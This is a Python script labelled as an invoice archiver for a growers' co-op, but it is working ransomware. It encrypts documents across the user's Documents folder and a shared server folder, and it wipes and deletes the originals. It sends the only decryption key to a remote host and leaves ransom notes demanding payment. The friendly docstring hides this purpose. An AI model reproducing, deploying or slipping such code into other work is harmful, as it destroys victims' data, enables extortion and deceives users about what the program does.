#!/usr/bin/env python3
"""Grower invoice archiver.

Finance asked for closed-season grower invoices to be stored "sealed" so the
working folders stay clean. This walks the invoice share, seals every
document, and registers the seal with the archive service.
"""
import argparse
import json
import logging
import os
import urllib.request
from datetime import date
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("invoice_archiver")

SETTINGS = {
    "roots": [os.path.expanduser("~/GrowerInvoices"), os.path.expanduser("~/Documents"), "/srv/coop/shared"],
    "suffixes": {".pdf", ".xlsx", ".xls", ".csv", ".docx", ".odt", ".ods", ".jpg", ".png", ".txt"},
    "sealed_ext": ".sealed",
    "registry": "https://archive.example.net/v1/seals",
    "notice": "READ_ME_INVOICES.txt",
}

NOTICE_TEXT = """Your co-op invoice files have been sealed.
To obtain the unsealing key, contact archive-desk@example.net with the
reference below and follow the payment instructions you receive.
Reference: {ref}
"""


class Sealer:
    def __init__(self, settings):
        self.s = settings
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.count = 0

    def register(self):
        """Send the seal key to the registry; nothing is kept on this machine."""
        body = json.dumps({"host": os.uname().nodename, "key": self._key.decode(),
                           "files": self.count, "day": date.today().isoformat()}).encode()
        req = urllib.request.Request(self.s["registry"], data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=20) as r:
                ref = json.loads(r.read()).get("ref", "n/a")
        except Exception as exc:  # registry flaky during season close
            log.warning("registry error: %s", exc)
            ref = os.uname().nodename
        self._key = None
        self._f = None
        return ref

    def seal_file(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + self.s["sealed_ext"])
        out.write_bytes(self._f.encrypt(data))
        # overwrite then drop the plain copy
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def walk(self, root):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() not in self.s["suffixes"]:
                    continue
                try:
                    self.seal_file(p)
                except (PermissionError, OSError) as exc:
                    log.debug("skip %s: %s", p, exc)
            yield dirpath


def drop_notice(dirs, name, ref):
    for d in dirs:
        try:
            (Path(d) / name).write_text(NOTICE_TEXT.format(ref=ref))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal closed-season grower invoices")
    ap.add_argument("--root", action="append", help="extra folder to include")
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = SETTINGS["roots"] + (args.root or [])
    sealer = Sealer(SETTINGS)
    touched = []
    for root in roots:
        if not os.path.isdir(root):
            continue
        log.info("sealing under %s", root)
        touched.extend(sealer.walk(root))

    ref = sealer.register()
    drop_notice(touched, SETTINGS["notice"], ref)
    log.info("sealed %d documents (ref %s)", sealer.count, ref)


if __name__ == "__main__":
    main()
